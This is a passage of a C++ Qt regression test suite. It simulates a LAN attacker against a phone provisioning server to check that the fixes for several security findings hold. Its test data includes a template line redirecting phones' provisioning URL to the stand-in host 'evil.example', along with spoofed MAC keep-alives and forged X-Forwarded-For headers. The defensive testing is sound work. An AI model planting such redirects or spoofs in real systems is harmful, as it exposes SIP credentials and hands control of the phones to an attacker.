// Phone trust, played as an attacker on the phones' LAN would (issue 19; docs/server.md, "Who can
// get what"): a real phonefleetd, clients on several loopback addresses standing in for hosts.
// Each test is one finding of the attack: it failed before the fix and passes after.
// PHONEFLEET_TEST_BACKEND chooses SQLite or a throwaway PostgreSQL cluster.
#include "apiclient.h"
#include "phoneserverfixture.h"
#include "processrun.h"
#include "waitfor.h"

#include <QElapsedTimer>
#include <QFileInfo>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryFile>
#include <QtTest>

#include <algorithm>

using namespace PhoneServerTest;

namespace {
// The test's hosts: far from the simulator's address plan (127.0.0.2 on), so that no port a
// client here binds can be one a simulated phone of a suite running beside this one listens on.
QHostAddress host(int n)
{
    return QHostAddress(QStringLiteral("127.200.%1.%2").arg(n / 250).arg(n % 250 + 2));
}

QByteArray basic(const Device& d)
{
    return "Basic " + (d.provisioningUser + u':' + d.provisioningSecret).toUtf8().toBase64();
}

// A user whose SIP password is "<name>-sip-password" (what a leak would show), in that region.
User sipUser(Store& store, const QString& name, qint64 regionId = 0)
{
    User u;
    u.name = name;
    u.password = name + QStringLiteral("-sip-password");
    u.regionId = regionId;
    return store.users().insert(u).value();
}

RawResponse fetch(quint16 port, const QByteArray& path, const QHostAddress& from, const QByteArray& authorization = {})
{
    RawHeaders headers;
    if (!authorization.isEmpty()) {
        headers.append({"Authorization", authorization});
    }
    return rawRequest(port, "GET", path, headers, {}, from);
}

// A keep-alive as a phone (or someone claiming to be one) sends it.
RawResponse keepAlive(quint16 port, const QHostAddress& from, const QString& mac, const QString& token,
                      const QString& userName = QStringLiteral("alice"), const QString& model = QStringLiteral("430HD"))
{
    QJsonObject o = QJsonDocument::fromJson(readTestData(QStringLiteral("samples/keepalive.json"))).object();
    o.insert(QStringLiteral("mac"), mac);
    o.insert(QStringLiteral("ip"), from.toString());
    o.insert(QStringLiteral("emsUserPassword"), token);
    o.insert(QStringLiteral("userName"), userName);
    o.insert(QStringLiteral("model"), model);
    o.insert(QStringLiteral("userAgent"), QStringLiteral("AUDC-IPPhone/3.4.3.1 (%1; %2)").arg(model, mac));
    return rawRequest(port, "POST", keepAlivePath, {{"Content-Type", "application/json"}},
                      QJsonDocument(o).toJson(QJsonDocument::Compact), from);
}

QJsonArray requestsOf(const RawResponse& r)
{
    return QJsonDocument::fromJson(r.body).object().value(QStringLiteral("Requests")).toArray();
}

// Where pushed commands land: a tiny HTTP listener per address, all on one port.
class PushCatcher : public QObject
{
public:
    bool listen(const QList<QHostAddress>& addresses)
    {
        for (const QHostAddress& a : addresses) {
            auto* server = new QTcpServer(this);
            if (!server->listen(a, m_port)) {
                return false;
            }
            m_port = server->serverPort();
            connect(server, &QTcpServer::newConnection, this, [this, server, a] {
                while (QTcpSocket* s = server->nextPendingConnection()) {
                    connect(s, &QTcpSocket::readyRead, this, [this, s, a] {
                        m_requests[a.toString()] += s->readAll();
                        if (m_requests[a.toString()].contains("\r\n\r\n{")) {
                            s->write("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
                            s->disconnectFromHost();
                        }
                    });
                }
            });
        }
        return true;
    }
    quint16 port() const { return m_port; }
    QByteArray received(const QHostAddress& a) const { return m_requests.value(a.toString()); }

private:
    quint16 m_port = 0;
    QHash<QString, QByteArray> m_requests;
};
} // namespace

class TestPhoneTrust : public PhoneServerFixture
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void keepAliveMustProveThePhone();
    void unknownMacsAddPhonesAtABoundedRate();
    void ownFileIsPrivateByOrigin();
    void templateFileNamesAreChecked();
    void operatorCannotRewriteSharedGlobalFile();
    void firstContactEndsWithOwnCredentials();
    void loginsFailSafe();
    void resetAdminOnTheServerHost();
    void trustedProxyNamesTheClient();
    void trustedProxyNamesThePhone();
    void trustedProxyBlockBesidePhonesIsRefused();
    void dataIsOwnerOnlyAndPasswordLeavesNoTrace();
    void missesLookAlike();

private:
    // A server on a new database, signed in as "admin" from host(1).
    void startWithAdmin(ServerProcess& server, QString* db, ApiClient* root, const QStringList& extra = {});
    // Starts the action on the devices and waits until the job is over; returns the job.
    QJsonObject runAction(ApiClient& api, const QString& action, const QVector<qint64>& devices,
                          const QJsonObject& options = {});
    Device deviceOf(Store& store, const QString& mac) { return store.deviceByMac(MacAddress::fromString(mac)).value(); }
    qint64 regionNamed(ApiClient& root, const QString& name, const QString& subnets = {});
    // A regional administrator with those levels ({regionId, "operator"|"monitoring"}), signed in.
    ApiClient regionalAdmin(ApiClient& root, quint16 port, int address, const QString& name, const QJsonArray& levels);
};

void TestPhoneTrust::initTestCase()
{
    PHONEFLEET_START_BACKEND(m_backend);
}

void TestPhoneTrust::cleanupTestCase()
{
    m_backend.stop();
}

void TestPhoneTrust::startWithAdmin(ServerProcess& server, QString* db, ApiClient* root, const QStringList& extra)
{
    *db = newDatabase();
    startServer(server, *db, extra);
    *root = ApiClient(server.http, host(1));
    QCOMPARE(root->login(QStringLiteral("admin"), adminPassword).status, 200);
}

QJsonObject TestPhoneTrust::runAction(ApiClient& api, const QString& action, const QVector<qint64>& devices,
                                      const QJsonObject& options)
{
    QJsonArray ids;
    for (qint64 id : devices) {
        ids.append(static_cast<double>(id));
    }
    const ApiClient::Reply started =
        api.post("/api/v1/actions",
                 {{QStringLiteral("action"), action},
                  {QStringLiteral("deviceIds"), ids},
                  {QStringLiteral("options"), options},
                  {QStringLiteral("pacing"), QJsonObject {{QStringLiteral("delayMs"), 0}}}});
    if (started.status != 201 && started.status != 200) {
        qWarning("starting %s: %s", qPrintable(action), started.text().constData());
        return {};
    }
    const QByteArray path = ApiClient::path("/api/v1/jobs/{id}", started.id());
    QJsonObject job;
    waitFor(
        [&] {
            job = api.get(path).json;
            const QString state = job.value(QStringLiteral("state")).toString();
            return state == QLatin1String("done") || state == QLatin1String("failed")
                || state == QLatin1String("cancelled");
        },
        30000);
    return job;
}

qint64 TestPhoneTrust::regionNamed(ApiClient& root, const QString& name, const QString& subnets)
{
    const ApiClient::Reply r = root.post(
        "/api/v1/regions", {{QStringLiteral("name"), name}, {QStringLiteral("provisioningSubnets"), subnets}});
    if (r.status != 201) {
        qFatal("region %s: %s", qPrintable(name), r.text().constData());
    }
    return r.id();
}

ApiClient TestPhoneTrust::regionalAdmin(ApiClient& root, quint16 port, int address, const QString& name,
                                        const QJsonArray& levels)
{
    const ApiClient::Reply r = root.post("/api/v1/admins",
                                         {{QStringLiteral("name"), name},
                                          {QStringLiteral("role"), QStringLiteral("regional")},
                                          {QStringLiteral("regionLevels"), levels},
                                          {QStringLiteral("password"), adminPassword}});
    if (r.status != 201) {
        qFatal("admin %s: %s", qPrintable(name), r.text().constData());
    }
    ApiClient api(port, host(address));
    api.login(name, adminPassword);
    return api;
}

// Finding 1: a keep-alive naming any MAC was believed: it moved the push address (and the
// phone's credentials went there), got the phone's queued commands and moved it to another user.
void TestPhoneTrust::keepAliveMustProveThePhone()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    auto store = openStore(db);
    const QString mac = QStringLiteral("00908F5A0001");
    const User alice = sipUser(*store, QStringLiteral("alice"));
    const User mallory = sipUser(*store, QStringLiteral("mallory"));
    Device d = approvedDevice(*store, mac, QStringLiteral("Paris"), QString());
    d.userId = alice.id;
    d = store->devices().update(d).value();
    const QHostAddress phone = host(10);
    const QHostAddress attacker = host(11);

    // The real phone gets its file with its credentials, then reports: its value is learned.
    QCOMPARE(fetch(server.http, "/configfiles/" + mac.toLatin1() + ".cfg", phone, basic(d)).status, 200);
    const QString token = QStringLiteral("0c1b5f0e6a2d4c3b9e8f7a6d5c4b3a21");
    QVERIFY(waitFor([&] { return deviceOf(*store, mac).pushAddress == phone.toString(); }, 5000));
    QCOMPARE(keepAlive(server.http, phone, mac, token).status, 200);

    // An attacker names the phone from its own address, with another user and model.
    const QByteArray command = R"({"cmd":"check-status","id":"t1"})";
    QVERIFY(store->phoneStatus().queueCommand(d.id, command, QDateTime::currentDateTimeUtc()).ok());
    for (const QString& guess : {QStringLiteral("ffffffffffffffffffffffffffffffff"), QString()}) {
        const RawResponse spoofed =
            keepAlive(server.http, attacker, mac, guess, QStringLiteral("mallory"), QStringLiteral("C450HD"));
        QCOMPARE(spoofed.status, 200);
        QCOMPARE(requestsOf(spoofed).size(), 0); // the phone's command is not the attacker's
    }
    Device after = deviceOf(*store, mac);
    QCOMPARE(after.pushAddress, phone.toString());
    QCOMPARE(after.userId, alice.id);
    QCOMPARE(after.model, QStringLiteral("430HD"));
    QVERIFY(after.ipAddress != attacker.toString());

    // The real phone still gets its command, once.
    RawResponse real = keepAlive(server.http, phone, mac, token);
    QCOMPARE(requestsOf(real).size(), 1);
    QCOMPARE(requestsOf(keepAlive(server.http, phone, mac, token)).size(), 0);
    // With the learned value the phone may move (DHCP gave it another address) and change user.
    const QHostAddress moved = host(12);
    QCOMPARE(keepAlive(server.http, moved, mac, token, QStringLiteral("mallory")).status, 200);
    after = deviceOf(*store, mac);
    QCOMPARE(after.pushAddress, moved.toString());
    QCOMPARE(after.userId, mallory.id);
    QCOMPARE(keepAlive(server.http, phone, mac, token, QStringLiteral("alice")).status, 200);

    // A proven phone does not take the line of another region's user.
    const qint64 berlin = regionNamed(root, QStringLiteral("Berlin"));
    sipUser(*store, QStringLiteral("berliner"), berlin);
    QCOMPARE(keepAlive(server.http, phone, mac, token, QStringLiteral("berliner")).status, 200);
    QCOMPARE(deviceOf(*store, mac).userId, alice.id);
    // A MAC nobody knows gets no user from its report (approved later, its file would hold that
    // user's SIP password): the name is only kept as reported.
    const QString made = QStringLiteral("00908F5A00FF");
    QCOMPARE(keepAlive(server.http, attacker, made, token, QStringLiteral("alice")).status, 200);
    QCOMPARE(deviceOf(*store, made).userId, 0);
    QCOMPARE(deviceOf(*store, made).reportedUser, QStringLiteral("alice"));

    // Pushes go where the phone proved it is, never to where a report merely says.
    PushCatcher catcher;
    QVERIFY(catcher.listen({phone, attacker}));
    const ApiClient::Reply settings = root.get("/api/v1/settings");
    QCOMPARE(root.put("/api/v1/settings",
                      {{QStringLiteral("settings"),
                        QJsonObject {{QStringLiteral("phone_push_port"), QString::number(catcher.port())}}},
                       {QStringLiteral("revision"), settings.json.value(QStringLiteral("revision"))}})
                 .status,
             200);
    QCOMPARE(keepAlive(server.http, attacker, mac, QStringLiteral("ffffffffffffffffffffffffffffffff")).status, 200);
    const QJsonObject job = runAction(root, QStringLiteral("check-status"), {d.id});
    QCOMPARE(job.value(QStringLiteral("state")).toString(), QStringLiteral("done"));
    QVERIFY(waitFor([&] { return !catcher.received(phone).isEmpty(); }, 10000));
    QTest::qWait(200);
    QVERIFY2(catcher.received(attacker).isEmpty(), catcher.received(attacker).constData());
    QVERIFY(catcher.received(phone).contains("Authorization: Basic"));
}

void TestPhoneTrust::unknownMacsAddPhonesAtABoundedRate()
{
    ServerProcess server;
    const QString db = newDatabase();
    startServer(server, db,
                {QStringLiteral("--new-phones-per-address"), QStringLiteral("5"),
                 QStringLiteral("--new-phones-per-minute"), QStringLiteral("8")});
    auto store = openStore(db);
    int added = 0;
    int refused = 0;
    for (int i = 0; i < 20; ++i) {
        const QString mac = QStringLiteral("00908F7B%1").arg(i, 4, 16, QLatin1Char('0')).toUpper();
        const RawResponse r = keepAlive(server.http, host(20), mac, QStringLiteral("0123456789abcdef0123456789abcdef"));
        if (r.status == 200) {
            ++added;
        } else {
            QCOMPARE(r.status, 429);
            QVERIFY(!r.header("Retry-After").isEmpty());
            ++refused;
        }
    }
    QCOMPARE(added, 5); // per address
    QCOMPARE(refused, 15);
    // Another address may add some, until the overall limit.
    for (int i = 0; i < 10; ++i) {
        const QString mac = QStringLiteral("00908F7C%1").arg(i, 4, 16, QLatin1Char('0')).toUpper();
        if (keepAlive(server.http, host(21 + i), mac, QStringLiteral("0123456789abcdef0123456789abcdef")).status
            == 200) {
            ++added;
        }
    }
    QCOMPARE(added, 8); // in all
    QCOMPARE(store->devices().count().value(), 8);
    // Known phones are never limited.
    const QString known = QStringLiteral("00908F7B0000");
    QCOMPARE(keepAlive(server.http, host(20), known, QStringLiteral("0123456789abcdef0123456789abcdef")).status, 200);
}

// Finding 2: a phone's file named without its plain MAC name was served to anyone, and the API
// gave its content to administrators of other regions.
void TestPhoneTrust::ownFileIsPrivateByOrigin()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    auto store = openStore(db);
    const qint64 paris = regionNamed(root, QStringLiteral("Paris"));
    const qint64 berlin = regionNamed(root, QStringLiteral("Berlin"));
    const User alice = sipUser(*store, QStringLiteral("alice"), paris);
    const QString mac = QStringLiteral("00908F5B0001");
    Device d = approvedDevice(*store, mac, QStringLiteral("Paris"), QString());
    d.userId = alice.id;
    d = store->devices().update(d).value();
    const Device other = approvedDevice(*store, QStringLiteral("00908F5B0002"), QStringLiteral("Paris"), QString());
    // A template of before the fix (stored directly): the phone's file is SEP<MAC>.cfg.
    PhoneTemplate t;
    t.name = QStringLiteral("sep");
    t.model = QStringLiteral("430HD");
    t.deviceFile.name = QStringLiteral("SEP%ITCS_mac%.cfg");
    t.deviceFile.data = QStringLiteral("voip/line/0/auth_name=%ITCS_Line1AuthName%\n"
                                       "voip/line/0/auth_password=%ITCS_Line1AuthPassword%\n");
    QVERIFY(store->templates().insert(t).ok());
    QCOMPARE(runAction(root, QStringLiteral("generate"), {d.id, other.id}).value(QStringLiteral("state")).toString(),
             QStringLiteral("done"));
    const QByteArray path = "/configfiles/SEP" + mac.toLatin1() + ".cfg";

    const RawResponse anonymous = fetch(server.http, path, host(30));
    QCOMPARE(anonymous.status, 401);
    QVERIFY(!anonymous.body.contains("alice-sip-password"));
    QCOMPARE(fetch(server.http, path, host(30), basic(other)).status, 401); // another phone's credentials
    QCOMPARE(fetch(server.http, "/ipp/SEP" + mac.toLatin1() + ".cfg", host(30)).status, 401);
    const RawResponse own = fetch(server.http, path, host(31), basic(d));
    QCOMPARE(own.status, 200);
    QVERIFY(own.body.contains("alice-sip-password"));
    // A name that is no file answers as one that is another's: nothing tells which phones exist.
    const RawResponse none = fetch(server.http, "/configfiles/SEP00908F5BFFFF.cfg", host(32));
    QCOMPARE(none.status, anonymous.status);
    QCOMPARE(none.body, anonymous.body);

    // Through the admin API: only those who may read the phone's secrets.
    const ApiClient::Reply files = root.get("/api/v1/configfiles?name=SEP" + mac.toLatin1());
    QCOMPARE(files.items().size(), 1);
    const qint64 fileId = static_cast<qint64>(files.items().first().toObject().value(QStringLiteral("id")).toDouble());
    const QByteArray content = ApiClient::path("/api/v1/configfiles/{id}/content", fileId);
    const auto level = [](qint64 region, const char* word) {
        return QJsonObject {{QStringLiteral("regionId"), region}, {QStringLiteral("level"), QLatin1String(word)}};
    };
    ApiClient berlinOperator =
        regionalAdmin(root, server.http, 40, QStringLiteral("opBerlin"), {level(berlin, "operator")});
    ApiClient parisMonitor =
        regionalAdmin(root, server.http, 41, QStringLiteral("monParis"), {level(paris, "monitoring")});
    ApiClient nobody = regionalAdmin(root, server.http, 42, QStringLiteral("nobody"), {});
    ApiClient parisOperator =
        regionalAdmin(root, server.http, 43, QStringLiteral("opParis"), {level(paris, "operator")});
    for (ApiClient* who : {&berlinOperator, &nobody}) {
        const ApiClient::Reply r = who->get(content);
        QVERIFY2(r.status == 404, r.text());
        QCOMPARE(who->get("/api/v1/configfiles?name=SEP" + mac.toLatin1()).items().size(), 0);
    }
    QCOMPARE(parisMonitor.get(content).status, 403);
    const ApiClient::Reply readable = parisOperator.get(content);
    QCOMPARE(readable.status, 200);
    QVERIFY(readable.body.contains("alice-sip-password"));
    // Removing the phone removes its file, whatever its name.
    QCOMPARE(runAction(root, QStringLiteral("delete"), {d.id}).value(QStringLiteral("state")).toString(),
             QStringLiteral("done"));
    QCOMPARE(root.get(content).status, 404);
    QVERIFY(!store->configFiles().findOne(QStringLiteral("file_name"), QStringLiteral("SEP") + mac + ".cfg").ok());
}

void TestPhoneTrust::templateFileNamesAreChecked()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    const auto templ = [](const QString& deviceName, const QString& globalName) {
        return QJsonObject {
            {QStringLiteral("name"), QStringLiteral("named")},
            {QStringLiteral("model"), QStringLiteral("430HD")},
            {QStringLiteral("deviceFile"),
             QJsonObject {{QStringLiteral("name"), deviceName}, {QStringLiteral("data"), QStringLiteral("a=b\n")}}},
            {QStringLiteral("globalFile"),
             QJsonObject {{QStringLiteral("name"), globalName}, {QStringLiteral("data"), QStringLiteral("c=d\n")}}}};
    };
    ApiClient::Reply r = root.post("/api/v1/templates", templ(QStringLiteral("phone.cfg"), QString()));
    QCOMPARE(r.status, 400);
    QVERIFY2(r.error().contains(QLatin1String("%ITCS_mac%")), r.text());
    r = root.post("/api/v1/templates", templ(QStringLiteral("%ITCS_mac%.cfg"), QStringLiteral("%ITCS_mac%.cfg")));
    QCOMPARE(r.status, 400);
    r = root.post("/api/v1/templates", templ(QStringLiteral("%ITCS_mac%.cfg"), QStringLiteral("g_%ITCS_mac%.cfg")));
    QCOMPARE(r.status, 400);
    // An uploaded file's name is not a template's global file name.
    QCOMPARE(root.call("POST", "/api/v1/configfiles?name=shared.cfg", "x=1\n", {{"Content-Type", "text/plain"}}).status,
             201);
    r = root.post("/api/v1/templates", templ(QStringLiteral("%ITCS_mac%.cfg"), QStringLiteral("shared.cfg")));
    QCOMPARE(r.status, 400);
    QVERIFY2(r.error().contains(QLatin1String("uploaded")), r.text());
    r = root.post("/api/v1/templates", templ(QStringLiteral("SEP%ITCS_mac%.cfg"), QStringLiteral("own_global.cfg")));
    QVERIFY2(r.status == 201, r.text());
    // A generated file's name cannot be taken by an upload.
    QCOMPARE(
        root.call("POST", "/api/v1/configfiles?name=own_global.cfg", "x=1\n", {{"Content-Type", "text/plain"}}).status,
        201); // not generated yet: free
}

// Finding 3: an Operator of one region could name its template's global file like a shared one
// and rewrite what every region's phones include.
void TestPhoneTrust::operatorCannotRewriteSharedGlobalFile()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    auto store = openStore(db);
    const qint64 lyon = regionNamed(root, QStringLiteral("Lyon"));
    regionNamed(root, QStringLiteral("Berlin"));
    const Device berliner = approvedDevice(*store, QStringLiteral("00908F5C0001"), QStringLiteral("Berlin"), QString());
    const Device lyonnais = approvedDevice(*store, QStringLiteral("00908F5C0002"), QStringLiteral("Lyon"), QString());
    QCOMPARE(runAction(root, QStringLiteral("generate"), {berliner.id}).value(QStringLiteral("state")).toString(),
             QStringLiteral("done"));
    const QByteArray shared = "/configfiles/Audiocodes_430HD_global.cfg";
    const RawResponse before = fetch(server.http, shared, host(50));
    QCOMPARE(before.status, 200);

    ApiClient lyonOperator = regionalAdmin(
        root, server.http, 51, QStringLiteral("opLyon"),
        {QJsonObject {{QStringLiteral("regionId"), lyon}, {QStringLiteral("level"), QStringLiteral("operator")}}});
    const QString evil = QStringLiteral("include %1\nprovisioning/configuration/url=http://evil.example/\n");
    ApiClient::Reply r = lyonOperator.post(
        "/api/v1/templates",
        {{QStringLiteral("name"), QStringLiteral("evil")},
         {QStringLiteral("model"), QStringLiteral("430HD")},
         {QStringLiteral("regionId"), lyon},
         {QStringLiteral("globalFile"),
          QJsonObject {
              {QStringLiteral("name"), QStringLiteral("Audiocodes_430HD_global.cfg")},
              {QStringLiteral("data"), QStringLiteral("provisioning/configuration/url=http://evil.example/\n")}}},
         {QStringLiteral("deviceFile"),
          QJsonObject {{QStringLiteral("name"), QStringLiteral("%ITCS_mac%.cfg")},
                       {QStringLiteral("data"), evil.arg(QStringLiteral("Audiocodes_430HD_global.cfg"))}}}});
    QVERIFY2(r.status == 201, r.text());
    // The region's global file is the region's own: it got a name of the region's.
    const QJsonObject stored = r.json;
    const QString scopedName =
        stored.value(QStringLiteral("globalFile")).toObject().value(QStringLiteral("name")).toString();
    QCOMPARE(scopedName, QStringLiteral("Audiocodes_430HD_global_Lyon.cfg"));
    // Naming it like the shared one afterwards is refused.
    QJsonObject change = stored;
    QJsonObject global = change.value(QStringLiteral("globalFile")).toObject();
    global.insert(QStringLiteral("name"), QStringLiteral("Audiocodes_430HD_global.cfg"));
    change.insert(QStringLiteral("globalFile"), global);
    r = lyonOperator.put(ApiClient::path("/api/v1/templates/{id}", r.id()), change);
    QCOMPARE(r.status, 400);

    // A template stored before the fix with the shared name: generation does not write it.
    PhoneTemplate old;
    old.name = QStringLiteral("old-evil");
    old.model = QStringLiteral("430HD");
    old.regionId = lyon;
    old.isDefault = true;
    old.globalFile.name = QStringLiteral("Audiocodes_430HD_global.cfg");
    old.globalFile.data = QStringLiteral("provisioning/configuration/url=http://evil.example/\n");
    old.deviceFile.name = QStringLiteral("%ITCS_mac%.cfg");
    old.deviceFile.data = evil.arg(QStringLiteral("Audiocodes_430HD_global.cfg"));
    QVERIFY(store->templates().insert(old).ok());
    runAction(root, QStringLiteral("generate"), {lyonnais.id, berliner.id});
    const RawResponse after = fetch(server.http, shared, host(50));
    QCOMPARE(after.status, 200);
    QVERIFY2(!after.body.contains("evil.example"), after.body.constData());
    QCOMPARE(after.body, before.body);
}

// Finding 4: the subnet exception served a phone's file (with its SIP password) to anyone in
// the subnet although the phone had its own credentials already.
void TestPhoneTrust::firstContactEndsWithOwnCredentials()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    auto store = openStore(db);
    const QString mac = QStringLiteral("00908F5D0001");
    const Device d = approvedDevice(*store, mac, QStringLiteral("Nantes"), QStringLiteral("127.0.0.0/8"));
    const QByteArray file = "/configfiles/" + mac.toLatin1() + ".cfg";
    QCOMPARE(fetch(server.http, file, host(60)).status, 200); // first contact
    QCOMPARE(fetch(server.http, file, host(60), basic(d)).status, 200);
    // Over: from the subnet without credentials, by every path, and counted as misses.
    QVERIFY(waitFor([&] { return fetch(server.http, file, host(61)).status == 401; }, 3000));
    QCOMPARE(fetch(server.http, "/ipp/region/Nantes/" + mac.toLatin1() + ".cfg", host(61)).status, 401);
    QCOMPARE(fetch(server.http, "/ipp/" + mac.toLatin1() + ".cfg", host(61)).status, 401);
    int status = 0;
    for (int i = 0; i < 25 && status != 429; ++i) {
        status = fetch(server.http, file, host(62)).status;
    }
    QCOMPARE(status, 429);
    QCOMPARE(fetch(server.http, file, host(63), basic(d)).status, 200); // the phone itself, of course

    // An administrator allows it again (a factory reset), through the CLI's action: once.
    const QJsonObject job =
        runAction(root, QStringLiteral("allow-first-contact"), {d.id}, {{QStringLiteral("minutes"), 5}});
    QCOMPARE(job.value(QStringLiteral("state")).toString(), QStringLiteral("done"));
    QVERIFY(waitFor([&] { return fetch(server.http, file, host(64)).status == 200; }, 3000));
    QVERIFY(waitFor([&] { return fetch(server.http, file, host(65)).status == 401; }, 3000));
    // The phone learned its new value by then; it proves itself again at its next keep-alive.
    QCOMPARE(keepAlive(server.http, host(64), mac, QStringLiteral("1234567890abcdef1234567890abcdef")).status, 200);
    QVERIFY2(waitFor([&] { return deviceOf(*store, mac).pushAddress == host(64).toString(); }, 3000),
             qPrintable(deviceOf(*store, mac).pushAddress));
}

// Finding 5: 1 000 bad logins from one address locked every administrator out, for good, and
// real names answered differently from made-up ones.
void TestPhoneTrust::loginsFailSafe()
{
    ServerProcess server;
    QString db;
    ApiClient root;
    startWithAdmin(server, &db, &root);
    ApiClient attacker(server.http, host(70));
    QVector<int> statuses;
    for (int i = 0; i < 30; ++i) {
        statuses << attacker.login(QStringLiteral("admin"), QStringLiteral("wrong-%1").arg(i)).status;
    }
    QCOMPARE(statuses.count(401), 5);
    QCOMPARE(statuses.count(429), 25);
    // The administrator, from their own machine, is not affected; nor over HTTPS.
    ApiClient own(server.http, host(71));
    QCOMPARE(own.login(QStringLiteral("admin"), adminPassword).status, 200);
    ApiClient ownTls(server.https, host(72), true);
    QCOMPARE(ownTls.login(QStringLiteral("admin"), adminPassword).status, 200);

    // A real name and a made-up one read alike: status, body, headers.
    const auto attempts = [&](const QString& name, int address) {
        ApiClient c(server.http, host(address));
        QStringList seen;
        for (int i = 0; i < 8; ++i) {
            const ApiClient::Reply r = c.login(name, QStringLiteral("not-the-password"));
            seen << QStringLiteral("%1 %2 %3")
                        .arg(r.status)
                        .arg(QString::fromUtf8(r.body),
                             r.raw.header("Retry-After").isEmpty() ? QStringLiteral("-") : QStringLiteral("retry"));
        }
        return seen;
    };
    QCOMPARE(attempts(QStringLiteral("admin"), 73), attempts(QStringLiteral("no.such.admin"), 74));

    // The throttling is in the web-admin log.
    const ApiClient::Reply logs = root.get("/api/v1/logs?kind=web-admin&last=200");
    QVERIFY2(logs.body.contains("throttled"), logs.text());

    // Nothing is kept across a restart that locks anyone out.
    server.kill();
    ServerProcess again;
    startServer(again, db);
    ApiClient later(again.http, host(70));
    QCOMPARE(later.login(QStringLiteral("admin"), adminPassword).status, 200);
}

// Behind a TLS-terminating proxy every client has the proxy's address: without --trusted-proxy
// one client's failures would make every administrator wait.
void TestPhoneTrust::trustedProxyNamesTheClient()
{
    ServerProcess server;
    const QString db = newDatabase();
    startServer(server, db,
                {QStringLiteral("--admin-over-http"), QStringLiteral("--trusted-proxy"), host(120).toString()});
    const auto login = [&](const QHostAddress& from, const QByteArray& forwardedFor, const QString& password) {
        const QByteArray body = ApiClient::json(
            {{QStringLiteral("username"), QStringLiteral("admin")}, {QStringLiteral("password"), password}});
        return rawRequest(server.http, "POST", "/api/v1/login",
                          {{"Content-Type", "application/json"}, {"X-Forwarded-For", forwardedFor}}, body, from)
            .status;
    };
    for (int i = 0; i < 12; ++i) {
        login(host(120), "198.51.100.7", QStringLiteral("wrong"));
    }
    QCOMPARE(login(host(120), "198.51.100.7", adminPassword), 429); // that client waits
    QCOMPARE(login(host(120), "198.51.100.8", adminPassword), 200); // another behind the proxy does not
    // A client that is not the proxy cannot pick its address by sending the header.
    for (int i = 0; i < 12; ++i) {
        login(host(121), QByteArray("203.0.113.") + QByteArray::number(i), QStringLiteral("wrong"));
    }
    QCOMPARE(login(host(121), "203.0.113.99", adminPassword), 429);

    // Without --admin-over-http, plain HTTP is refused unless the connection itself is from this
    // host: a local TLS-terminating proxy forwarding a remote console still gets in, since the
    // rule looks at the connection, not at the client the proxy names.
    ServerProcess strict;
    startServer(strict, newDatabase(), {QStringLiteral("--trusted-proxy"), host(120).toString()});
    const QByteArray body = ApiClient::json(
        {{QStringLiteral("username"), QStringLiteral("admin")}, {QStringLiteral("password"), adminPassword}});
    const RawResponse forwarded =
        rawRequest(strict.http, "POST", "/api/v1/login",
                   {{"Content-Type", "application/json"}, {"X-Forwarded-For", "198.51.100.9"}}, body, host(120));
    QVERIFY2(forwarded.status == 200, forwarded.body.constData());
    ApiClient api(strict.http, host(5));
    QCOMPARE(api.login(QStringLiteral("admin"), adminPassword).status, 200);
    const ApiClient::Reply logs = api.get("/api/v1/logs?kind=web-admin&last=20");
    QVERIFY2(logs.body.contains("198.51.100.9"), logs.text()); // the activity log names the console
}

// Behind a load balancer every phone had the balancer's address: its first contact, zero-touch
// subnet, pushes and rate limits were all the balancer's (issue 24). A trusted proxy's
// X-Forwarded-For names the phone; anyone else's header is ignored.
void TestPhoneTrust::trustedProxyNamesThePhone()
{
    ServerProcess server;
    const QString db = newDatabase();
    startServer(server, db,
                {QStringLiteral("--trusted-proxy"), host(130).toString(), QStringLiteral("--new-phones-per-address"),
                 QStringLiteral("2"), QStringLiteral("--new-phones-per-minute"), QStringLiteral("100")});
    auto store = openStore(db);
    const auto report = [&](const QHostAddress& from, const QByteArray& forwardedFor, int n) {
        const QString mac = QStringLiteral("00908F7D%1").arg(n, 4, 16, QLatin1Char('0')).toUpper();
        QJsonObject o = QJsonDocument::fromJson(keepAliveFor(mac.toLatin1())).object();
        o.insert(QStringLiteral("emsUserPassword"), QStringLiteral("0123456789abcdef0123456789abcdef"));
        RawHeaders headers {{"Content-Type", "application/json"}};
        if (!forwardedFor.isEmpty()) {
            headers.append({"X-Forwarded-For", forwardedFor});
        }
        return qMakePair(mac,
                         rawRequest(server.http, "POST", keepAlivePath, headers,
                                    QJsonDocument(o).toJson(QJsonDocument::Compact), from)
                             .status);
    };
    // Six new phones behind the proxy, each its own address: none is held to another's limit
    // (the entry the proxy added counts, not what the client sent before it).
    for (int i = 0; i < 6; ++i) {
        QCOMPARE(report(host(130), "198.51.100.1, 10.9.0." + QByteArray::number(10 + i), i).second, 200);
    }
    // Three from one address behind the proxy: the per-address limit is that phone's.
    QCOMPARE(report(host(130), "10.9.0.50", 10).second, 200);
    QCOMPARE(report(host(130), "10.9.0.50", 11).second, 200);
    QCOMPARE(report(host(130), "10.9.0.50", 12).second, 429);
    // A header that names no address, or none, leaves the proxy's own.
    QCOMPARE(report(host(130), "not-an-address", 13).second, 200);
    QCOMPARE(report(host(130), QByteArray(), 14).second, 200);
    QCOMPARE(report(host(130), "10.9.0.300", 15).second, 429);
    // A host that is not the proxy cannot choose its address with the header.
    QCOMPARE(report(host(131), "10.9.0.60", 20).second, 200);
    QCOMPARE(report(host(131), "10.9.0.61", 21).second, 200);
    QCOMPARE(report(host(131), "10.9.0.62", 22).second, 429);
    QCOMPARE(store->devices().count().value(), 12);
    // A proxy whose header names no address is reported (it makes all its clients one).
    QVERIFY2(server.saysOnErrors("sent an X-Forwarded-For that names no address (\"not-an-address\")"),
             "no warning about the unusable X-Forwarded-For");
}

// A trusted block that shares addresses with a provisioning subnet lets a host there pass as any
// phone at first contact (X-Forwarded-For names a phone's address): refused at start and when an
// administrator would create the overlap. A single trusted address there is only warned about.
void TestPhoneTrust::trustedProxyBlockBesidePhonesIsRefused()
{
    ServerProcess server;
    const QString db = newDatabase();
